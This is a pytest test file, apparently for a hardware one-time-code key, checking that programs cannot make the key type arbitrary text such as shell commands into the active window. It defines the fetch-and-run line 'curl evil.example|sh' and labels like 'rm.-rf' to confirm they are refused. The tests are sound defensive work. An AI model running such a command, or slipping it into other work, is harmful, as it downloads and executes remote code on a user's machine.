"""A program tries to make the key type arbitrary text into the window with the cursor."""

from __future__ import annotations

import string

import pytest

from tests.attacks.stage import Stage, done, waits
from tests.support.desk import AMAZON
from tests.typing.typing_setups import US_TABLE
from totpkey.keyboard.layouts import layouts

COMMAND = "curl evil.example|sh"


def with_letters(stage: Stage) -> str:
    account = stage.set_up()
    given: dict[str, str | int] = {"mode": "keypad", "pace": 0, "delay": 0, "margin": 3, "layout": "us"}
    done(stage.agree("set_typing", **given, table=US_TABLE.hex()))
    stage.port.pulse()
    return account


@pytest.mark.parametrize("recipe", ["{user}{ENTER}{code}", "{code}{ENTER}", "{code}{TAB}"])
def test_no_batch_lets_in_what_types_more_than_digits(stage: Stage, recipe: str) -> None:
    with_letters(stage)
    done(stage.agree("batch", count=10))
    assert waits(stage.add(label="rm.-rf", recipe=recipe))


@pytest.mark.parametrize("recipe", ["", "{code}{ENTER}"])
def test_a_steam_secret_that_was_sought_for_its_letters_does_not_come_by_itself(
    stage: Stage, recipe: str
) -> None:
    with_letters(stage)
    assert waits(stage.add(type="steam", digits=5, recipe=recipe))


def test_enter_and_tab_do_not_come_by_themselves(stage: Stage) -> None:
    account = with_letters(stage)
    for recipe in ("{code}{ENTER}", "{TAB}{code}"):
        assert waits(stage.port.ask("recipe", account=account, recipe=recipe))
        stage.port.pulse()
    assert waits(stage.add(type="hotp", recipe="{code}{TAB}"))


def test_no_shell_command_is_a_name_that_is_typed_whoever_presses(stage: Stage) -> None:
    account = with_letters(stage)
    answer = stage.agree("add", label=COMMAND, secret="31" * 20, proof=0, recipe="{user}{ENTER}{code}")
    assert answer.get("error") == "cannot_type"
    done(stage.agree("recipe", account=account, recipe="{user}{ENTER}{code}"))
    assert stage.agree("rename", account=account, label=COMMAND).get("error") == "cannot_type"


def test_no_press_for_a_small_change_gives_an_agreed_name_other_letters(stage: Stage) -> None:
    account = with_letters(stage)
    done(stage.agree("recipe", account=account, recipe="{user}{ENTER}{code}"))
    other = str(done(stage.add(label="other"))["account"])
    done(stage.port.ask("rename", account=other, label="mine"))
    assert waits(stage.port.ask("rename", account=account, label="shutdown"))


@pytest.mark.parametrize(
    "other_keys", [{"mode": "top-row"}, {"table": layouts()["dvorak"].table.hex()}], ids=["mode", "table"]
)
def test_no_press_for_a_small_change_has_an_agreed_name_typed_with_other_keys(
    stage: Stage, other_keys: dict[str, str]
) -> None:
    """They give signs that a shell knows where the computer has another layout than the key."""
    account = with_letters(stage)
    done(stage.agree("recipe", account=account, recipe="{user}{ENTER}{code}"))
    other = str(done(stage.add(label="other"))["account"])
    done(stage.agree("rename", account=other, label="mine"))
    same: dict[str, str | int] = {"mode": "keypad", "delay": 0, "margin": 3, "layout": "us"}
    same["table"] = US_TABLE.hex()
    done(stage.port.ask("set_typing", **same, pace=16))
    assert waits(stage.port.ask("set_typing", **{**same, **other_keys}, pace=16))
    stage.port.pulse()
    assert done(stage.port.ask("typing"))["mode"] == "keypad"


def test_hardly_a_character_of_a_name_is_harmless_on_every_pair_of_layouts() -> None:
    """Why a name is not kept to those: docs/concepts/consent.md, "What types more than digits"."""
    names = set(string.ascii_letters + string.digits + "@._+-")
    arrives = {
        layout.name: {stroke: character for character, stroke in layout.strokes.items()}
        for layout in layouts().values()
    }
    harmless = {
        character
        for character in names
        if all(
            arrived.get(layout.strokes.get(character, (0, 0)), character) in names
            for layout in layouts().values()
            for arrived in arrives.values()
        )
    }
    assert harmless == set("certuxCRTUX")
    assert arrives["us"][layouts()["dvorak"].strokes["W"]] == "<"


def test_a_program_chooses_no_account_whose_codes_it_does_not_know(stage: Stage) -> None:
    """What it has brought itself it may choose: a press then types what it knows, as the light says."""
    owners = stage.set_up()
    brought = str(done(stage.add(label="bank", secret="31" * 20))["account"])
    done(stage.port.ask("choose", account=brought))
    assert waits(stage.port.ask("choose", account=owners))
    stage.port.pulse()
    assert waits(stage.port.ask("choose", account=owners))
    stage.port.pulse()
    assert waits(stage.port.ask("choose", account=brought)), "a program that comes later has brought nothing"
    stage.port.pulse()
    done(stage.agree("choose", account=owners))
    done(stage.port.ask("done"))
    stage.desk.await_face(serial=False)
    stage.desk.away_from_the_boundary(AMAZON)
    assert stage.desk.press() == stage.desk.code(AMAZON)
